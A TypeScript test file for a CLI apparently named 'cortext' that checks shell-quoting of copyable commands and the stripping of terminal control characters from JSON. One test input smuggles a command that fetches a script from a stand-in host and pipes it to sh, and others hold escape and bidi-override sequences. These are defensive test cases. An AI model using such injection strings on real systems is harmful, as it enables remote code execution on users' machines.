import { execFileSync } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { asJson } from '../../src/text/json.ts'
import { asWord, paste } from '../../src/text/paste.ts'

// promise: what is no plain name is quoted or replaced by `<…>`
test('a value in a command is one word of a shell, whatever it contains', () => {
  expect(paste`cortext resume ${'001-plan-日本語'} --force`).toBe('cortext resume 001-plan-日本語 --force')
  expect(paste`cortext resume ${'001;curl evil.sh|sh;#'} --force`).toBe(
    "cortext resume '001;curl evil.sh|sh;#' --force",
  )
  for (const value of ['--yes', '', 'a\nb', '\u001b[2J', 'a\u202eb', '\u009d'])
    expect(paste`rm ${value}`, JSON.stringify(value)).toBe('rm <…>')
  const word = fc.string({ unit: 'binary' }).map((text) => text.replace(/\p{Surrogate}/gu, ''))
  fc.assert(
    fc.property(word, (value) => {
      const shown = asWord(value)
      if (shown === '<…>') return // nothing to copy
      const seen = execFileSync('/bin/sh', ['-c', `printf '%s|' ${shown}`], { encoding: 'utf8' })
      expect(seen).toBe(`${value}|`)
    }),
    { numRuns: 40 },
  )
})

// promise: what is no plain name
test('every command to copy is made by `paste`', () => {
  const src = join(import.meta.dirname, '..', '..', 'src')
  const files = readdirSync(src, { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.ts'))
  const command =
    /\b(?:cortext [a-z]+(?: [\w-]+)*|rm|mv|cd|ls -\w+|tail|diff|df -h|kill|git (?:check-\w+|config|log|ls-files|show|worktree \w+)(?: -[\w-]+| \w+)*) \$\{/
  const bare = files.flatMap((path) =>
    readFileSync(join(src, path), 'utf8')
      .split('\n')
      .filter((line) => command.test(line) && !/paste`[^`]*$/.test(line.slice(0, line.search(command))))
      .map((line) => `${path}: ${line.trim()}`),
  )
  expect(bare.map((one) => one.split(':')[0]).sort()).toEqual(NOT_TO_COPY)
})

// promise: what is no plain name
test('every fix with a value from outside is made by `paste`', () => {
  const src = join(import.meta.dirname, '..', '..', 'src')
  const files = readdirSync(src, { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.ts'))
  const bare = files.flatMap((path) =>
    [...readFileSync(join(src, path), 'utf8').matchAll(/\bfix(?: =|:)\s*`([^\n]*)`,?(?: \}.*)?$/gm)]
      .map(([, text]) => text!.replace(/\$\{paste`[^`]*`\}/g, ''))
      .filter((text) => text.includes('${'))
      .map((text) => `${path}: ${text}`),
  )
  expect(bare.map((one) => one.split(':')[0]).sort()).toEqual(OWN_NAMES)
})

/** Fixes with nothing in them but names of ours, and those whose values are made words by `paste` or `asWord` elsewhere. */
const OWN_NAMES = [
  'cli/choose-budget.ts',
  'cli/choose-budget.ts',
  'cli/choose-client.ts',
  'cli/verbs/mcp/arguments.ts',
  'cli/verbs/mcp/context.ts',
  'clients/index.ts',
  'clients/shared/setup/hook-entries.ts',
  'journeys/agent-loop/context-by-key.ts',
  'journeys/syncing/choosing/choose-place.ts',
  'journeys/syncing/choosing/choose-place.ts',
  'journeys/syncing/choosing/suggested.ts',
  'session/lifecycle.ts',
  'store/machine/locks/lock.ts',
  'workspace/git/index-lock.ts',
  'workspace/pack/eject.ts',
  'workspace/registry.ts',
]

/** Commands with nothing in them but names of ours, and two that make a word of each value themselves. */
const NOT_TO_COPY = [
  'cli/verbs/prune.ts',
  'clients/shared/setup/hook-entries.ts',
  'clients/shared/setup/hook-entries.ts',
  'journeys/resuming/notices.ts',
  'journeys/resuming/parts.ts',
  'journeys/setup/add-type.ts',
  'old-node.ts',
  'store/machine/locks/lock.ts',
]

// promise: It never becomes part
test('JSON contains nothing that a terminal obeys, and reads back as the same value', () => {
  fc.assert(
    fc.property(fc.jsonValue(), fc.string({ unit: 'binary' }), (value, text) => {
      const json = asJson({ value, text, evil: '\u009b2J\u007f\u202e\u001b]0;x\u0007' }, 2)
      expect(json).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/)
      expect(JSON.parse(json).text).toBe(text)
    }),
  )
})
